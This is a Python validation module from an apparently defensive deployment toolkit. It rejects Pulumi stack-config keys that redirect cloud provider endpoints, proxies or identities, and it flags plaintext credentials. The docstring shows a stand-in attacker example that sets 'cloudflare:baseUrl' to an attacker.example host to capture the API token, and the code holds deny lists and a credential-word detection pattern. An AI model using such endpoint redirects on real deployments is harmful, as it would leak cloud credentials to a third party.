"""Config outside the kit's namespace that would change where a deploy talks or who it is.

A stack file's ``aws:*``, ``gcp:*``, ``azure-native:*``, ``cloudflare:*`` and ``kubernetes:*``
keys configure the Pulumi provider of that package. The kit judges what its components render,
not where the provider sends it: ``cloudflare:baseUrl: https://cf-api.attacker.example/...``
would send the Cloudflare API token there on ``pulumi up``, and ``gcp:computeCustomEndpoint``
or ``gcp:impersonateServiceAccount`` the Google credentials, with every render and policy
unchanged. So ``refusals`` refuses, whatever the value (exit 2, naming the key):

- the keys of ``MOVING_KEYS``: provider settings that move an API endpoint, a proxy or the
  identity, taken from each SDK's config module (``pulumi_aws/config/vars.py``,
  ``pulumi_gcp/config/vars.py`` with every ``*CustomEndpoint``, ``pulumi_azure_native``,
  ``pulumi_cloudflare``), in any namespace spelling of the package and in the legacy
  ``<ns>:config:<name>`` spelling the engine reads as ``<ns>:<name>``;
- a credential in plain text under any namespace: a key whose name says it holds one
  (``CREDENTIAL_WORDS``) with a value that is not ``secure:`` (``pulumi config set --secret``).

Provider settings that only pick a region, a project or a tag stay the stack's to choose.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Any

from sandboxkit.errors import NOT_SHOWN, Problem

MOVING_KEYS: Mapping[str, frozenset[str]] = {
    # pulumi_aws/config/vars.py
    "aws": frozenset(
        {
            "endpoints",
            "assumeRoles",
            "assumeRoleWithWebIdentity",
            "customCaBundle",
            "ec2MetadataServiceEndpoint",
            "httpProxy",
            "httpsProxy",
            "insecure",
            "profile",
            "sharedConfigFiles",
            "sharedCredentialsFiles",
            "stsRegion",
        }
    ),
    # pulumi_gcp/config/vars.py (and every key ending in CustomEndpoint, below)
    "gcp": frozenset(
        {
            "impersonateServiceAccount",
            "impersonateServiceAccountDelegates",
            "universeDomain",
            "externalCredentials",
            "credentials",
            "accessToken",
        }
    ),
    # pulumi_azure_native/config/vars.py
    "azure-native": frozenset(
        {
            "environment",
            "metadataHost",
            "msiEndpoint",
            "auxiliaryTenantIds",
            "oidcRequestUrl",
            "oidcTokenFilePath",
            "clientCertificatePath",
        }
    ),
    # pulumi_cloudflare/config/vars.py
    "cloudflare": frozenset({"baseUrl"}),
    # The kubernetes provider the kit creates takes its context from sandboxkit:kubernetes.
    "kubernetes": frozenset({"kubeconfig", "context", "cluster"}),
}
CUSTOM_ENDPOINT = re.compile(r"[A-Za-z0-9]+CustomEndpoint")
"""gcp's per-API endpoint overrides (``computeCustomEndpoint``, ``cloudRunV2CustomEndpoint``)."""
CREDENTIAL_WORDS = re.compile(
    r"(secret|password|passwd|token|apikey|accesskey|privatekey|servicekey|credential)",
    re.IGNORECASE,
)
"""A key whose last name holds one of these words holds a credential."""


def _package(namespace: str) -> str:
    # `azure-native:x` and `azure_native:x` name one package's config.
    return namespace.replace("_", "-")


def refusals(written: str, value: Any, where: str) -> list[Problem]:
    """The problems of one stack file key outside the kit's namespace (module docstring).

    Args:
        written: the key as written (``cloudflare:baseUrl``).
        value: its value as read (a ``{"secure": ...}`` mapping for a Pulumi secret).
        where: the file and line, for the problem's key (``<file> line 12``).

    Returns:
        ``[]`` for a key the kit leaves to the stack, else one ``Problem`` naming the key.
    """
    namespace, _, name = written.partition(":")
    # The engine reads `<ns>:config:<name>` as `<ns>:<name>` (pulumi's ParseKey in
    # sdk/go/common/resource/config/key.go, kept for the old rule that every value be in a
    # config module); the Python SDK's Config then finds it under `<ns>:<name>` exactly
    # (pulumi/config.py Config.full_key, pulumi/runtime/config.py get_config).
    name = name.removeprefix("config:")
    package = _package(namespace)
    if name in MOVING_KEYS.get(package, ()) or (
        package == "gcp" and CUSTOM_ENDPOINT.fullmatch(name)
    ):
        return [
            Problem(
                f"{written} ({where})",
                NOT_SHOWN,
                "no such key: it moves where the "
                f"{package} provider sends its API calls or whose identity it uses, which no "
                "render or policy of the kit sees; the kit's components configure their "
                "providers themselves (remove the key; for a target's own setting, see its "
                "sandboxkit: section)",
            )
        ]
    return [
        Problem(
            f"{path} ({where})",
            NOT_SHOWN,
            "a Pulumi secret: a credential in plain text is readable by anyone who reads the "
            f"stack file (pulumi config set --secret --path '{path}' ...)",
        )
        for path in _plain_credentials(written, name, value)
    ]


def _plain_credentials(path: str, name: str, value: Any) -> list[str]:
    """The paths at or below ``path`` whose key names a credential (``CREDENTIAL_WORDS``) and
    whose value holds text that is not a ``secure:`` secret (a flag or a number is none)."""
    if isinstance(value, Mapping) and set(value) == {"secure"}:
        return []
    if CREDENTIAL_WORDS.search(name) and _holds_text(value):
        return [path]
    if isinstance(value, Mapping):
        return [
            found
            for key, item in value.items()
            for found in _plain_credentials(f"{path}.{key}", str(key), item)
        ]
    if isinstance(value, list):
        return [
            found
            for index, item in enumerate(value)
            for found in _plain_credentials(f"{path}[{index}]", name, item)
        ]
    return []


def _holds_text(value: Any) -> bool:
    if isinstance(value, Mapping) and set(value) == {"secure"}:
        return False
    if isinstance(value, str):
        return bool(value.strip())
    if isinstance(value, Mapping):
        return any(_holds_text(v) for v in value.values())
    if isinstance(value, list):
        return any(_holds_text(v) for v in value)
    return False
